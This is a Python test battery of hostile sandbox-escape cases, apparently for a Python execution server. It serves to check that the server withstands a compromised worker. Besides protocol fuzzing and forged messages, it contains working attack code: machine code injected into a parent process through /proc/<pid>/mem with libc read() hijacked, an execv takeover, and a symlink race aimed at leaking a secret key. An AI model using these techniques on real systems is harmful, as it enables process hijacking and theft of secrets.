"""What the server hears from a room: frames of a worker that has been taken over, and packets of a zygote that has."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.escapes.case import ANY, Case, Kind

if TYPE_CHECKING:
    from tests.hostile.escapes.battery import Attempt

GARBAGE = """
for number, target in descriptors():
    if number > 2:
        quietly(os.set_blocking, number, False)
        quietly(os.write, number, os.urandom(1 << 16))
"""
HUGE_LENGTHS = """
for lengths in ((0xffffffff, 0xffffffff), (0x7fffffff, 0), (0, 0xffffffff), ((1 << 20) + 1, 0)):
    forge(b"{}", lengths=lengths)
"""
HALF_A_FRAME = """
forge(b'{"op":"done"', lengths=(1 << 20, 64 << 20))
while True:
    time.sleep(1)
"""
DROP_BY_DROP = """
header = b'{"op":"names","ticket":1,"names":[]}'
frame = struct.pack("<II", len(header), 0) + header
while True:
    for byte in frame:
        for number in wires():
            os.write(number, bytes([byte]))
        time.sleep(0.01)
"""
DEEP_HEADERS = """
forge(b"[" * (1 << 20))
forge(b'{"a":' * 200000)
"""
OTHER_HEADERS = """
for header in (b"", b"null", b"[]", b"{}", b'"done"', b"\\xff\\xfe", b"\\0" * 100, b'{"op":1}', b'{"op":"done"}', b'{"op":"done","cell":1e999}', b'{"op":"\\\\ud800"}', b'{"op":"no such"}'):
    forge(header)
"""


def done(cell: str, more: str = "") -> str:
    return f"""
forge('{{"op":"done","cell":{cell},"status":0,"result":"forged","error":null,"notices":[],"displays":[],"plain":true,"memory":1{more}}}')
time.sleep(0.3)
"""


FORGED_DONE = done("2") + done("3") + done("4")
DONE_FOR_OTHERS = """
for cell in ("0", "1", "99999", "-1", "18446744073709551615", "18446744073709551616", "1.5", '"2"', "null", "[2]", "true"):
    forge('{"op":"done","cell":%s,"status":0,"result":"forged","error":null,"notices":[],"displays":[],"plain":true}' % cell)
"""
DONE_OF_WRONG_TYPES = """
import itertools, json
wrong = [None, True, -1, 1e300, "x" * 100, [], {}, [[]], [["a", "b", "c"]], [1, 2, 3], {"a": 1}]
for name in ("status", "result", "error", "notices", "displays", "plain", "memory"):
    for value in wrong:
        header = {"op": "done", "cell": 2, "status": 0, "result": None, "error": None, "notices": [], "displays": [], "plain": True, name: value}
        forge(json.dumps(header))
"""
DISPLAYS_THAT_LIE = """
for displays in ('[["image/png",4294967295]]', '[["image/png",-1]]', '[["image/png",9007199254740993]]', '[["a/b",100],["a/b",100]]', "[" + ",".join(['["a/b",0]'] * 50000) + "]"):
    forge('{"op":"done","cell":2,"status":0,"result":null,"error":null,"notices":[],"displays":%s,"plain":true}' % displays, b"xy")
"""
# Whoever reads the answer must not take any of it for the protocol's.
DONE_WITH_PROTOCOL = """
import json
line = '\\n{"jsonrpc":"2.0","id":1,"result":{"forged":true}}\\n'
forge(json.dumps({"op": "done", "cell": 2, "status": 0, "result": line * 100, "error": None, "notices": [line, "\\x1b]0;x\\x07\\u2028\\0"] * 50, "displays": [["text/html\\r\\nX: y", 3]], "plain": True}), b"\\0\\n\\0")
os.write(1, line.encode())
os.write(2, line.encode())
"""
FORKED = """
for pid in (W["canary_pid"], W["server_pid"], W["test_pid"], 1, 0, -1, 2147483648, os.getppid(), os.getpid()):
    forge('{"op":"forked","pid":%d}' % pid)
    forge('{"op":"forking"}')
"""
FORKED_FOR_UNDO = """
code = f'forge(\\'{{{{"op":"forked","pid":{W["canary_pid"]}}}}}\\')'
def before():
    forge('{"op":"forking"}')
    forge('{"op":"forked","pid":%d}' % W["canary_pid"])
os.register_at_fork(before=before)
"""
READY_AGAIN = """
for _ in range(1000):
    forge('{"op":"ready","left":[%s]}' % ",".join(['"\\\\u001b[2J"'] * 50))
"""
NAMES_FLOOD = """
import json
names = json.dumps({"op": "names", "ticket": 1, "names": [["n" * 100, "t", 1 << 60, "r" * 100]] * 1000})
for _ in range(300):
    forge(names)
"""
CLOSED = """
for number in wires():
    os.close(number)
time.sleep(30)
"""
CROSSED = """
for number in wires():
    os.dup2(number, 1)
    os.dup2(number, 2)
print("printed onto the wire", flush=True)
os.write(2, b"x" * 100000)
"""
EXCHANGED = """
pair = socket.socketpair()
for number in wires():
    if number not in (pair[0].fileno(), pair[1].fileno()):
        os.dup2(pair[0].fileno(), number)
"""
# A thread answers for the runtime from now on.
IN_BETWEEN = """
import select
def answer():
    mine = wires()
    while True:
        ready, _, _ = select.select(mine, [], [])
        for number in ready:
            data = os.read(number, 1 << 20)
            if not data:
                return
            for cell in range(1, 30):
                forge('{"op":"done","cell":%d,"status":0,"result":"forged","error":null,"notices":[],"displays":[],"plain":true}' % cell)
threading.Thread(target=answer, daemon=True).start()
"""
ANOTHER_PROGRAM = """
need_walls()
code = '''
import os, socket, struct, time
while True:
    for number in range(3, 1100):
        for header in (b'{"op":"done","cell":%d,"status":0,"result":"forged","error":null,"notices":[],"displays":[],"plain":true}' % n for n in range(5)):
            try:
                os.write(number, struct.pack("<II", len(header), 0) + header)
            except OSError:
                break
    time.sleep(0.05)
'''
for number, _ in descriptors():
    quietly(os.set_inheritable, number, True)
os.execv(sys.executable, [sys.executable, "-c", code])
"""

# Machine code in place of the zygote's read(): that one only jumps to it, for its neighbours in libc are needed.
PLANT = """
need_walls()
zygote = os.getppid()
def plant(code):
    if platform.machine() != "x86_64":
        return False
    at = lambda function: ctypes.cast(function, ctypes.c_void_p).value  # as in the zygote, which we were forked from
    try:
        with open(f"/proc/{zygote}/mem", "r+b", 0) as memory:
            memory.seek(at(libc.getaddrinfo))
            memory.write(code)
            memory.seek(at(libc.read))
            memory.write(b"\\x48\\xb8" + struct.pack("<Q", at(libc.getaddrinfo)) + b"\\xff\\xe0")
    except OSError as error:
        print("the zygote's memory is out of reach:", error)
        return False
    print("the zygote is taken over")
    return True
def sending(number, packet):
    "send(number, packet): @@@@ is how far away it is"
    code = b"\\xb8\\x2c\\0\\0\\0\\xbf" + struct.pack("<i", number) + b"\\x48\\x8d\\x35@@@@\\xba" + struct.pack("<i", len(packet))
    return code + b"\\x41\\xba\\0\\x40\\0\\0\\x45\\x31\\xc0\\x45\\x31\\xc9\\x0f\\x05"
"""
# It sends packets on every descriptor, and goes to sleep.
TAKE_OVER = PLANT + """
def take_over(packets, times=1):
    code = head = b"\\x41\\xbc" + struct.pack("<i", times)
    for packet in packets:
        for number in range(3, 12):
            code += sending(number, packet)
    code += b"\\x41\\xff\\xcc\\x0f\\x85" + struct.pack("<i", len(head) - (len(code) + 9)) + b"\\xb8\\x22\\0\\0\\0\\x0f\\x05\\xeb\\xf7"
    for packet in packets:
        for number in range(3, 12):
            at = code.index(b"@@@@")
            code = code[:at] + struct.pack("<i", len(code) - at - 4) + code[at + 4:]
        code += packet
    if plant(code):
        os.kill(zygote, signal.SIGCHLD)
        time.sleep(0.5)
"""
ZYGOTE_GARBAGE = TAKE_OVER + """
take_over([os.urandom(1000), b"{", b"null", b"[]", b'{"op":"no such"}', b"[" * 2000, b"\\xff" * 100, b'{"op":"hello"}', b'{"op":"hello","version":"9","pid":-1,"executable":"x","prefix":"y"}'])
"""
ZYGOTE_FOREIGN_PIDS = TAKE_OVER + """
packets = []
for pid in (W["canary_pid"], W["server_pid"], W["test_pid"], 1, -1, 0, 1 << 40):
    packets.append(b'{"op":"exited","pid":%d,"code":0,"signal":null}' % pid)
    for number in range(1, 6):
        packets.append(b'{"op":"forked","id":%d,"pid":%d}' % (number, pid))
take_over(packets)
"""
ZYGOTE_FLOOD = TAKE_OVER + """
take_over([b'{"op":"preloaded","modules":["x"],"refused":{"y":"z"}}', b'{"op":"fork_failed","id":1,"error":"no"}', b"x" * 500], 20000)
"""
ZYGOTE_ENDS_US = TAKE_OVER + """
take_over([b'{"op":"exited","pid":%d,"code":0,"signal":null}' % os.getpid()])
"""
# It waits for orders, as the zygote does, and answers the one to expect a copy with its number and a process outside.
ZYGOTE_FALSE_COPY = PLANT + """
packet = b'{"op":"forked","id":#,"pid":%d}' % W["canary_pid"]
order = b'{"op":"expect","id":#}'
received, sent = -0x10000, -0x20000  # below the stack
code = b""
for number in range(3, 12):
    at_stack = lambda place: b"\\x24" + struct.pack("<i", place)
    flags = b"\\x45\\x31\\xc0\\x45\\x31\\xc9\\x0f\\x05"
    receive = b"\\xb8\\x2d\\0\\0\\0\\xbf" + struct.pack("<i", number) + b"\\x48\\x8d\\xb4" + at_stack(received) + b"\\xba\\0\\x40\\0\\0\\x45\\x31\\xd2" + flags
    answer = b"\\x48\\x8d\\x35@@@@\\x48\\x8d\\xbc" + at_stack(sent) + b"\\xb9" + struct.pack("<i", len(packet)) + b"\\xf3\\xa4"  # copies the packet
    answer += b"\\x8a\\x84" + at_stack(received + order.index(b"#")) + b"\\x88\\x84" + at_stack(sent + packet.index(b"#"))  # and the number
    answer += b"\\xb8\\x2c\\0\\0\\0\\xbf" + struct.pack("<i", number) + b"\\x48\\x8d\\xb4" + at_stack(sent) + b"\\xba" + struct.pack("<i", len(packet)) + b"\\x41\\xba\\0\\x40\\0\\0" + flags
    is_expect = b"\\x80\\xbc" + at_stack(received + order.index(b"expect")) + b"e\\x75" + bytes([len(answer)])
    code += receive + b"\\x85\\xc0\\x7e" + bytes([len(is_expect + answer)]) + is_expect + answer
code += b"\\xe9" + struct.pack("<i", -len(code) - 5)
while b"@@@@" in code:
    at = code.index(b"@@@@")
    code = code[:at] + struct.pack("<i", len(code) - at - 4) + code[at + 4:]
plant(code + packet)  # the next order wakes it
"""
# What a session's state is written to, as soon as it is there.
STATE_RACE = """
key = W["keys"][0]
def race():
    end = time.monotonic() + 5
    while time.monotonic() < end:
        for folder in {os.environ["PYEMBER_SESSION_FOLDER"], "/workspace", "/tmp"} if walled() else [os.environ["PYEMBER_SESSION_FOLDER"]]:
            for name in quietly(os.listdir, folder) or []:
                path = os.path.join(folder, name)
                if not os.path.islink(path) and os.path.isfile(path):
                    quietly(os.symlink, key, path + ".link")
                    quietly(os.replace, path + ".link", path)
thread = threading.Thread(target=race, daemon=True)
thread.start()
data = bytes(1 << 20)
"""
HOOKS_OF_FORKS = """
def hang():
    while True:
        try:
            time.sleep(100)
        except BaseException:
            pass
os.register_at_fork(before=hang, after_in_child=hang)
"""


def saved_state_has_no_key(attempt: Attempt) -> list[str]:
    canaries = attempt.battery.canaries
    saved = attempt.client.tool("save_session", session=attempt.session, timeout=90)
    copy = attempt.session + "-fork"
    forked = attempt.call_tool("fork_session", session=attempt.session, name=copy)
    attempt.client.tool("close_session", session=copy)
    wrong = [f"the key is in an answer: {each}" for each in (saved, forked) if canaries.leak_in(each.text)]
    return wrong + [f"the key is in {path}" for path in canaries.state_files() if canaries.leak_in(path.read_bytes())]


def fork_is_answered(attempt: Attempt) -> list[str]:
    copy = attempt.session + "-fork"
    answer = attempt.call_tool("fork_session", session=attempt.session, name=copy)
    attempt.client.tool("close_session", session=copy)
    return [f"the fork's answer has a canary: {answer}"] if attempt.battery.canaries.leak_in(answer.text) else []


def undo_is_answered(attempt: Attempt) -> list[str]:
    attempt.client.tool("run_python", code="x = 1", session=attempt.session, timeout=60)
    attempt.client.tool("undo_session", session=attempt.session, timeout=60)
    return []


WIRE = Kind("the wire", (
    Case("garbage on every descriptor", GARBAGE, accept=ANY, timeout=3),
    Case("lengths beyond all bounds", HUGE_LENGTHS, accept=ANY, timeout=3),
    Case("half a frame and then nothing", HALF_A_FRAME, accept=ANY, timeout=1),
    Case("frames drop by drop", DROP_BY_DROP, accept=ANY, timeout=1),
    Case("headers a million deep", DEEP_HEADERS, accept=ANY, timeout=3),
    Case("headers that are no messages", OTHER_HEADERS, accept=ANY, timeout=3),
    Case("a forged answer for its own cell", FORGED_DONE, accept=ANY, timeout=3),
    Case("forged answers for other cells", DONE_FOR_OTHERS, accept=ANY, timeout=3),
    Case("forged answers of wrong types", DONE_OF_WRONG_TYPES, accept=ANY, timeout=3),
    Case("displays that are not as long as they say", DISPLAYS_THAT_LIE, accept=ANY, timeout=3),
    Case("the protocol's own messages in answers and output", DONE_WITH_PROTOCOL, accept=ANY, timeout=3),
    Case("forged copies: processes outside", FORKED, accept=ANY, timeout=3),
    Case("forged copies when copies are asked for", FORKED_FOR_UNDO, accept=ANY, timeout=5, arguments=(("undo", 2),), then=undo_is_answered),
    Case("ready a thousand times", READY_AGAIN, accept=ANY, timeout=3),
    Case("names that nobody asked for", NAMES_FLOOD, accept=ANY, timeout=5),
    Case("the wire closed", CLOSED, accept=ANY, timeout=3),
    Case("output onto the wire", CROSSED, accept=ANY, timeout=3),
    Case("the wire exchanged for another", EXCHANGED, accept=ANY, timeout=3),
    Case("a thread that answers for the runtime", IN_BETWEEN, accept=ANY, timeout=3),
    Case("another program in the worker's place", ANOTHER_PROGRAM, accept=ANY, dangerous=True, timeout=2),
    Case("the zygote taken over: garbage", ZYGOTE_GARBAGE, accept=ANY, dangerous=True, timeout=5),
    Case("the zygote taken over: processes outside", ZYGOTE_FOREIGN_PIDS, accept=ANY, dangerous=True, timeout=5),
    Case("the zygote taken over: a flood", ZYGOTE_FLOOD, accept=ANY, dangerous=True, timeout=5),
    Case("the zygote taken over: the end of its own worker", ZYGOTE_ENDS_US, accept=ANY, dangerous=True, timeout=5),
    Case("the zygote taken over: a copy that is somebody else", ZYGOTE_FALSE_COPY, accept=ANY, dangerous=True, timeout=5,
         arguments=(("undo", 2),), then=undo_is_answered),
    Case("files exchanged while the state is saved", STATE_RACE, accept=ANY, timeout=5, then=saved_state_has_no_key),
    Case("forks that hang", HOOKS_OF_FORKS, accept=ANY, timeout=5, then=fork_is_answered),
))
